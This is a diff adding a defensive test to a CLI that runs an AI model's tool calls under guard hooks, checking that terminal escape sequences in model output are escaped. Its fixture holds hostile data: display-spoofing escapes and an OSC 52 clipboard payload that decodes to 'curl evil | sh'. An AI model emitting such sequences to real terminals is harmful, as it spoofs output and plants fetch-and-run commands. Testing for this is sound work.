@@ -17,6 +17,7 @@ const guardedWorkspace = {
     PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'node hooks/guard.js', statusMessage: 'Checking the command…' }] }],
   }),
 };
+const RAW_CONTROLS = ['\x1b', '\x07', '\r', '\u2028'];
 const escapeRegex = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
 const bash = (command: string, id: string) => toolCalls([{ id, name: 'Bash', arguments: { command } }]);
 
@@ -43,6 +44,22 @@ describe('hookpilot run', () => {
     expect(lines[0]).toMatch(/^\[Bash\] Run: echo made > made.txt -> executed \(\d+ ms\)$/);
     expect(lines[1]).toMatch(/^\[Bash\] Run: rm -rf keep.txt -> blocked by hook "guard.js" \(PreToolUse\): rm -rf is not allowed here/);
     expect(lines[2]).toBe('Done: one file made, one kept.');
+  });
+
+  it('what the model writes cannot drive the terminal: escape sequences and carriage returns are printed escaped, JSON keeps them', async () => {
+    const trap = 'Hookpilot wants to use Read\x1b[8m\x1b]0;innocent\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u2028';
+    const script = () => [bash('echo hi #\x1b[2K\r[Bash] Run: ls', 'c1'), text(trap)];
+    bed = await startTestbed(bundle.bundle, {}, script());
+    const r = await bed.run(['go', '--allowed-tools', 'Bash']);
+    expect(r.code).toBe(0);
+    for (const raw of RAW_CONTROLS) expect(r.stdout + r.stderr).not.toContain(raw);
+    expect(r.stdout).toContain('echo hi #\\u001b[2K\\r[Bash] Run: ls -> executed');
+    expect(r.stdout).toContain('Hookpilot wants to use Read\\u001b[8m\\u001b]0;innocent\\u0007');
+    await bed.close();
+    bed = await startTestbed(bundle.bundle, {}, script());
+    const json = await bed.run(['go', '--allowed-tools', 'Bash', '--output-format', 'json']);
+    for (const raw of RAW_CONTROLS) expect(json.stdout).not.toContain(raw);
+    expect(jsonResult(json)).toMatchObject({ result: trap });
   });
 
   it('json: one object with the blocked call, the reason sent to the model, and an audit log with hook runs', async () => {
